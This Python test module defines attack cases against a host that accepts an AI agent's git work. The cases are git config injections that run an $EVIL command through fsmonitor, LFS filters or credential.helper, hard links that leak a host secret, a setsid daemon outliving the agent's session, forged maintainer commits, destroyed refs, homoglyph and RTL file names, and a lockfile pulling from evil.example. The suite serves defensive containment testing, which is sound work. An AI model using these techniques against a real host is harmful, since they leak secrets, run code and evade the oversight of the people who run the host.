"""Owns attacks beyond the known ones that succeed against a naive host as well."""

from __future__ import annotations

import time
from collections.abc import Callable

from tests.git.attacks.cases import Attack
from tests.git.attacks.field import HOST_SECRET, Field, Naive, Ours


def _lost(field: Field) -> bool:
    """The honest part of the work did not arrive."""
    return "line 3 agent" not in field.on_remote(field.branch(), "f.txt")


def _left_out(path: str) -> Callable[[Field], bool]:
    return lambda field: not field.arrived(path)


def _arrives(path: str) -> Callable[[Field], bool]:
    return lambda field: field.arrived(path)


def _both(one: str, other: str) -> Callable[[Field], bool]:
    return lambda field: field.arrived(one) and field.arrived(other)


def _leaks(path: str) -> Callable[[Field], bool]:
    return lambda field: HOST_SECRET in field.on_remote(field.branch(), path)


def _forged(field: Field) -> bool:
    return "Maintainer" in field.published()


def _alive_naive(field: Naive) -> bool:
    try:
        return any(_changes(str(field.wt / "flip")) for _ in range(60))  # it may have to wait for its turn
    finally:
        (field.host / "over").touch()


def _alive_ours(field: Ours) -> bool:
    return _changes(str(field.tree.path / "flip"))


def _changes(path: str) -> bool:
    """Say whether somebody still writes a file."""
    seen = set()
    for _ in range(10):
        with open(path, "rb") as file:  # noqa: PTH123
            seen.add(file.read())
        time.sleep(0.05)
    return len(seen) > 1


_AGENT_REPO = """\
git init -q "$HOME/repo"
w "$HOME/repo/.git/config" "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = $EVIL\\n"
"""

BEYOND = (
    Attack("b01", "include.path brings a configuration from the worktree",
        'w inc "[core]\\n\\tfsmonitor = $EVIL\\n"; cfg include.path "$HOST_WT/inc"'),
    Attack("b02", "includeIf by the git folder", 'w "$HOME/inc" "[core]\\n\\tfsmonitor = $EVIL\\n"; cfg "includeIf.gitdir:/.path" "$HOST_HOME/inc"'),
    Attack("b03", "filter.lfs is a command, and the base's attributes ask for it", 'cfg filter.lfs.clean "$EVIL"; w x.dat data'),
    Attack("b04", "filter.lfs.process, a long-running one", 'cfg filter.lfs.process "$EVIL"; w x.dat data'),
    Attack("b05", "commondir leads to a repository of the agent", _AGENT_REPO + """\
git -C "$HOME/repo" commit -q --allow-empty -m x
printf '%s/repo/.git\\n' "$HOST_HOME" >"$GITDIR/commondir"
"""),
    Attack("b06", "all objects are deleted", 'rm -rf "$COMMON"/objects/*', hit=_lost),
    Attack("b07", "all refs are deleted", 'rm -rf "$COMMON/refs" "$COMMON/packed-refs" "$COMMON/HEAD"', hit=_lost),
    Attack("b08", "the index is no index", 'printf garbage >"$GITDIR/index"', hit=_lost),
    Attack("b09", "info/exclude hides a file that stays", 'w "$COMMON/info/exclude" "evil.py\\n"; w evil.py "x = 1\\n"', hit=_left_out("evil.py")),
    Attack("b10", "the agent's own .gitignore hides a file that stays", 'w docs/.gitignore "*\\n"; w docs/evil.py "x = 1\\n"',
        hit=_left_out("docs/evil.py")),
    Attack("b11", "a hard link to a file of the host", 'ln "$HOST/host-secret.txt" leak.txt', hit=_leaks("leak.txt"), reaches=False),
    Attack("b12", "a copy of a file of the host", 'cp "$HOST/host-secret.txt" leak.txt', hit=_leaks("leak.txt"), reaches=False),
    Attack("b13", "a daemon goes on writing after the agent has ended", """\
printf 0 >flip
setsid sh -c 'n=0; while [ $n -lt 12000 ] && [ ! -e "$HOST/over" ]; do n=$((n+1)); printf $n >flip; sleep 0.01; done' >/dev/null 2>&1 </dev/null &
sleep 0.1
""", hit=_alive_naive, ours=_alive_ours),
    Attack("b14", "commits with a forged author", """\
git add -A; git -c user.name=x -c user.email=x@x commit -q --author 'Maintainer <m@example.invalid>' -m 'Reviewed-by: Maintainer'
""", hit=_forged),
    Attack("b15", "a backlog of another track", 'w tasks/issue-99/BACKLOG.yaml "version: 1\\n"',
        hit=_arrives("tasks/issue-99/BACKLOG.yaml"), ends="protected files: `tasks/issue-99/BACKLOG.yaml`"),
    Attack("b16", "names that differ by sharp s only", "w stra\u00dfe 1; w STRASSE 2", hit=_both("stra\u00dfe", "STRASSE"), ends="only in case"),
    Attack("b17", "names that differ by composition only", "w \u00e9 1; w e\u0301 2", hit=_both("\u00e9", "e\u0301"), ends="only in case"),
    Attack("b18", "names that differ by the Kelvin sign only", "w k 1; w \u212a 2", hit=_both("k", "\u212a"), ends="only in case"),
    Attack("b19", "names that differ by a dotless i only", "w file 1; w f\u0131le 2", hit=_both("file", "f\u0131le"), ends="only in case"),
    Attack("b20", ".git with a character that HFS+ leaves out", "w sub/.g\u200cit/config x",
        hit=_arrives("sub/.g\u200cit/config"), ends="passes for one"),
    Attack("b21", "a name that is read from right to left", "w invoice\u202etxt.py x", hit=_arrives("invoice\u202etxt.py"), ends="invisible"),
    Attack("b22", "a file that becomes a program", "chmod 755 docs/a.md; w docs/a.md x",
        hit=lambda f: f.mode("docs/a.md") == "100755", ends="it becomes a program"),
    Attack("b23", "a symlink inside the repository", "ln -s ../f.txt docs/link",
        hit=_arrives("docs/link"), ends="a symlink, which shows another file"),
    Attack("b24", "a pointer to content that is stored elsewhere",
        'w x.dat "version https://git-lfs.github.com/spec/v1\\noid sha256:0\\nsize 1\\n"', hit=_arrives("x.dat"), ends="(LFS)"),
    Attack("b25", "packages from elsewhere", """w package-lock.json '{"resolved": "https://evil.example/x.tgz"}'""",
        hit=_arrives("package-lock.json"), ends="protected files: `package-lock.json`"),
    Attack("b26", "credential.helper is a command", 'cfg credential.helper "!$EVIL"', token=True),
    Attack("b27", "a git folder of its own below the work", _AGENT_REPO + """\
mkdir sub; printf 'gitdir: %s/repo/.git\\n' "$HOST_HOME" >sub/.git; w sub/x x
git -C "$HOME/repo" commit -q --allow-empty -m x
""", after=lambda f: f.git("status", cwd=f.wt / "sub"), ends="a repository inside"),
)  # fmt: skip
